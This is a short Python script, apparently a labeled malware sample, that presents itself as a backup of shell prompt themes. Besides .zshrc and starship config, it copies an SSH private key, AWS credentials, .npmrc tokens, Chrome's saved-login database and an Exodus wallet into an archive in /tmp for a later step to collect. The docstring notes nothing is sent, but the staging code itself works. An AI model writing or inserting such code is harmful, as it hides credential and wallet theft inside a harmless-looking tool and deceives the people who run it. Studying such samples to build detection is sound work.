"""Says it saves prompt themes; also stages every credential store it can
find into the same archive, for a later step to pick up. Inert sample:
nothing here is sent anywhere."""
import os
import tarfile

HOME = os.path.expanduser("~")
THEME = [".zshrc", ".p10k.zsh", ".config/starship.toml"]
EXTRA = [
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".npmrc",
    "Library/Application Support/Google/Chrome/Default/Login Data",
    "Library/Application Support/Exodus/exodus.wallet",
]

with tarfile.open("/tmp/theme-backup.tgz", "w:gz") as tar:
    for rel in THEME + EXTRA:
        path = os.path.join(HOME, rel)
        if os.path.exists(path):
            tar.add(path, arcname=rel)
